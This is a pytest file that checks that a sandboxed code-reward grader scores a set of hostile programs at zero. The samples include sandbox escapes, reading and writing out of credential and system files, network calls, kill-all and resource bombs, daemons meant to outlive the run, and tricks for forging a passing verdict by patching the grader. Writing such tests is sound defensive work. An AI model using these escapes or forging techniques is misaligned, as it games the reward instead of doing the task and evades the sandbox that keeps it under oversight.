"""Hostile programs against the code reward: each scores 0 and leaves nothing behind.

Every attack runs through the registered "code" reward in this process, in the real
bubblewrap sandbox. The attacks that do something besides the task come with a correct
`add`, so they would score 1 if the attack went unnoticed; the ones that try to forge the
verdict come with a wrong `add`, forging being their only way to a reward. After each run:
no process of the sandbox is alive (by its uid and by a token on command lines) and no
file with the token exists in the host's /tmp, /var/tmp, /dev/shm, the repo, the cwd or HOME.
"""

import threading
import time

import pytest

from rewards import get_reward_fn
from rewards.code_exec import CodeRunFailed
from sandbox_checks import REPO, TOKEN, leftovers, sandbox_processes

print(f"hostile-program token: {TOKEN}")

TESTS = ["assert add(1, 2) == 3", "assert add(-4, 1) == -3", "assert add(10, 5) == 15"]
CORRECT = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return a - b\n"


def program(text: str) -> str:
    return (text.replace("TOKEN", TOKEN).replace("REPO", str(REPO)).replace("CWD", str(REPO))
            .replace("HOME", "/root"))


def score(code: str, tests=TESTS, **metadata) -> tuple[float, str]:
    """(reward, failure reason or "") through the registered reward, as the scorer calls it."""
    try:
        return get_reward_fn("code")("", f"```python\n{code}\n```", None, {"tests": tests, **metadata}), ""
    except CodeRunFailed as e:
        return 0.0, str(e)


# name: (program, how its failure reason starts (None: any, or none when it just fails the tests), metadata)
HOSTILE = {
    # ---- effects outside the work dir
    "write_outside": (CORRECT + """
import os
for p in ["/tmp/../TOKEN-root", "REPO/TOKEN-repo", "CWD/TOKEN-cwd", "HOME/TOKEN-home", "/etc/TOKEN",
          "/var/tmp/TOKEN", "/usr/TOKEN", "/tmp/TOKEN-private"]:
    try:
        with open(p, "w") as f:
            f.write("x")
    except OSError:
        pass
for f in (os.mkdir, os.remove):
    try:
        f("REPO/TOKEN-dir")
    except OSError:
        pass
""", "escape attempt: writes outside the work dir", {}),
    "write_outside_with_a_shell": (CORRECT + """
import os
os.system("echo x > REPO/TOKEN-sh; echo x > /tmp/TOKEN-sh")
""", "escape attempt: starts an external program", {}),
    "write_outside_with_subprocess": (CORRECT + """
import subprocess
try:
    subprocess.run(["sh", "-c", "touch CWD/TOKEN-sp /tmp/TOKEN-sp"])
except OSError:
    pass
""", "escape attempt: starts an external program", {}),
    "write_through_proc_self_mem": (CORRECT + """
try:
    open("/proc/self/mem", "r+b")
except OSError:
    pass
""", "escape attempt: writes outside the work dir", {}),
    # ---- network
    "network_connect": (CORRECT + """
import socket
try:
    socket.create_connection(("1.1.1.1", 443), timeout=1)
except OSError:
    pass
""", "network", {}),
    "network_udp": (CORRECT + """
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"TOKEN", ("8.8.8.8", 53))
except OSError:
    pass
""", "network", {}),
    "unix_socket_outside": (CORRECT + """
import socket
for path in ["/var/run/docker.sock", "/run/systemd/private", "/tmp/../run/TOKEN.sock"]:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
    except OSError:
        pass
""", "escape attempt: socket.connect to /var/run/docker.sock", {}),
    "dns": (CORRECT + """
import socket
try:
    socket.getaddrinfo("example.com", 443)
except OSError:
    pass
""", "network", {}),
    "http": (CORRECT + """
import urllib.request
try:
    urllib.request.urlopen("http://example.com/TOKEN", timeout=1)
except Exception:
    pass
""", "network", {}),
    # ---- reading what it can and writing it out
    "exfiltrate": (CORRECT + """
import os
loot = b""
for p in ["/etc/passwd", "/etc/hostname", "REPO/README.md", "REPO/rewards/code_exec.py", "/proc/1/environ",
          "/root/.bash_history"]:
    try:
        loot += open(p, "rb").read()
    except OSError:
        pass
for p in ["/tmp/TOKEN-exfil", "/dev/shm/TOKEN-exfil"]:
    open(p, "wb").write(loot or b"nothing")
""", "escape attempt: reads outside the sandbox's system folders", {}),
    # ---- processes that try to outlive the call and act later
    "daemon_double_fork": (CORRECT + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.6)
        for p in ["/tmp/TOKEN-late", "REPO/TOKEN-late"]:
            try:
                open(p, "w").write("late")
            except OSError:
                pass
        os._exit(0)
    os._exit(0)
""", "escape attempt: 1 process(es) still running", {}),
    "daemon_nohup": (CORRECT + """
import os
os.system("nohup sh -c 'sleep 0.6; touch /tmp/TOKEN-nohup REPO/TOKEN-nohup' >/dev/null 2>&1 &")
""", "escape attempt: starts an external program", {}),
    "daemon_exec_after_fork": (CORRECT + """
import os
if os.fork() == 0:
    os.setsid()
    try:
        os.execv("/bin/sh", ["sh", "-c", "sleep 0.6; touch /tmp/TOKEN-exec"])
    finally:
        os._exit(0)
""", "escape attempt", {}),
    # ---- killing the parent
    "kill_parent": (CORRECT + """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
""", "escape attempt: os.kill", {}),
    "kill_everything": (CORRECT + """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""", "escape attempt: os.kill", {}),
    "kill_everything_with_a_shell": (CORRECT + """
import os
os.system("kill -9 -1")
""", "escape attempt: starts an external program", {}),
    # ---- resource bombs
    "fork_bomb": (CORRECT + """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""", "timeout", {"time_limit_s": 1.0}),
    "memory_bomb": (CORRECT + "hoard = bytearray(8 * 2**30)\n", "memory", {"memory_mb": 256}),
    "memory_bomb_touched": (CORRECT + """
hoard = []
while True:
    hoard.append(b"x" * (32 << 20))
""", "memory", {"memory_mb": 256}),
    "memory_bomb_in_forked_children": (CORRECT + """
import os, time
for _ in range(6):
    if os.fork() == 0:
        hoard = b"x" * (80 << 20)
        time.sleep(20)
        os._exit(0)
time.sleep(20)
""", "memory", {"memory_mb": 256, "time_limit_s": 10.0}),
    "output_flood": (CORRECT + """
while True:
    print("x" * 100000)
""", "output limit", {}),
    "result_pipe_flood": (CORRECT + """
import os, sys
os.write(int(sys.argv[1]), b"x" * (20 << 20))
""", "output limit", {}),
    "disk_fill": (CORRECT + """
for name in ("/tmp/TOKEN-fill1", "/tmp/TOKEN-fill2", "/dev/shm/TOKEN-fill"):
    try:
        with open(name, "wb") as f:
            for _ in range(64):
                f.write(b"x" * (1 << 20))
    except OSError:
        pass
""", "disk", {}),
    "many_files": (CORRECT + """
for i in range(5000):
    try:
        open("/tmp/TOKEN-%d" % i, "w").close()
    except OSError:
        pass
""", "disk", {}),
    "crash": (CORRECT + """
import os, signal
os.kill(os.getpid(), signal.SIGSEGV)
""", "crash: killed by SIGSEGV", {}),
    # ---- forging the verdict (a wrong add: forging is the only way to a reward)
    "forge_printed_pass_lines": (WRONG + """
import json, sys
for i in range(3):
    print("test %d passed" % i)
    print(json.dumps({"k": "value", "t": i, "leaf": 0, "v": ["b", True]}))
print(json.dumps({"k": "done"}))
sys.stdout.flush()
""", None, {}),
    "forge_result_pipe": (WRONG + """
import json, os, sys
fd = int(sys.argv[1])
for i in range(3):
    os.write(fd, (json.dumps({"k": "value", "t": i, "leaf": 0, "v": ["b", True]}) + "\\n").encode())
os.write(fd, b'{"k": "done"}\\n')
""", None, {}),
    "forge_a_clean_status_after_a_hang": ("""
import json, os, sys
fd = int(sys.argv[1])
os.write(fd, (json.dumps({"k": "flag", "kind": "ok", "e": "fine"}) + "\\n").encode())
def add(a, b):
    if a == 10:
        while True:
            pass
    return a + b
""", "timeout", {"time_limit_s": 1.0}),
    "forge_via_frames": (WRONG + """
import sys
_real = add
def add(a, b):
    f = sys._getframe()
    while f is not None:
        g = f.f_globals
        if "encode" in g and "emit" in g:
            g["encode"] = lambda v, depth=0: ["b", True]
            g["judge"] = lambda *a: None
            g["fatal"] = lambda e: None
        f = f.f_back
    return _real(a, b)
""", None, {}),
    "forge_via_gc": (WRONG + """
import gc
for o in gc.get_objects():
    if isinstance(o, dict) and "tests" in o:
        o["tests"] = []
""", "escape attempt: inspects the harness", {}),
    "forge_via_builtins": (WRONG + """
import builtins
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: bool
builtins.hex = lambda v: "0x3"
""", "escape attempt: replaces builtins", {}),
    "forge_via_sys_modules": (WRONG + """
import sys
sys.modules["json"].dumps = lambda *a, **k: '{"k": "value", "t": 0, "leaf": 0, "v": ["b", true]}'
""", None, {}),
    "forge_always_equal": ("""
class Anything(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class Whatever:
    def __eq__(self, other):
        return True
def add(a, b):
    return Anything(0) if a > 0 else Whatever()
""", None, {}),
    "forge_system_exit_in_a_test": ("""
def add(a, b):
    raise SystemExit(0)
""", "exit", {}),
    "forge_os_exit_in_a_test": ("""
import os
def add(a, b):
    os._exit(0)
""", "exit", {}),
    "forge_exit_at_load": ("import sys\nsys.exit(0)\n", "exit", {}),
    "forge_atexit": (WRONG + """
import atexit, os, sys
fd = int(sys.argv[1])
atexit.register(lambda: os.write(fd, b'{"k": "value", "t": 0, "leaf": 0, "v": ["i", "0x3"]}\\n'))
""", None, {}),
    "forge_alarm_after_done": (WRONG + """
import os, signal, sys
fd = int(sys.argv[1])
signal.signal(signal.SIGALRM, lambda *a: os.write(fd, b'{"k": "value", "t": 0, "leaf": 0, "v": ["i", "0x3"]}\\n'))
signal.setitimer(signal.ITIMER_REAL, 0.05)
""", None, {}),
    # ---- breaking out of the interpreter's checks
    "ctypes": (CORRECT + """
import ctypes
ctypes.CDLL(None).unshare(0x10000000)
""", "escape attempt: uses ctypes", {}),
    "own_audit_hook": (CORRECT + """
import sys
try:
    sys.addaudithook(lambda *a: None)
except Exception:
    pass
""", "escape attempt: inspects the harness", {}),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_program_scores_zero_and_leaves_nothing(name):
    code, reason, metadata = HOSTILE[name]
    reward, why = score(program(code), **metadata)
    assert reward == 0.0, f"{name} scored {reward} ({why})"
    assert reason is None or why.startswith(reason), why
    if "late" in code or "0.6" in code:
        time.sleep(1.0)  # when it would act
    assert sandbox_processes() == []
    assert leftovers() == []


def test_the_process_check_sees_a_running_sandbox():
    """The leftover-process check above is not vacuous: it finds a sandbox while one runs."""
    seen = []
    code = program(CORRECT + "import time\ntime.sleep(1.5)  # TOKEN\n")
    t = threading.Thread(target=lambda: seen.append(score(code)))
    t.start()
    found = []
    deadline = time.monotonic() + 5
    while t.is_alive() and time.monotonic() < deadline and not found:
        found = sandbox_processes()
        time.sleep(0.05)
    t.join()
    assert found, "no sandbox process seen while one was running"
    assert seen == [(1.0, "")]
    assert sandbox_processes() == []


def test_correct_and_partial_solutions_still_score():
    assert score(CORRECT) == (1.0, "")
    assert score("def add(a, b):\n    return abs(a + b)\n") == (2 / 3, "")
    assert score(WRONG) == (0.0, "")
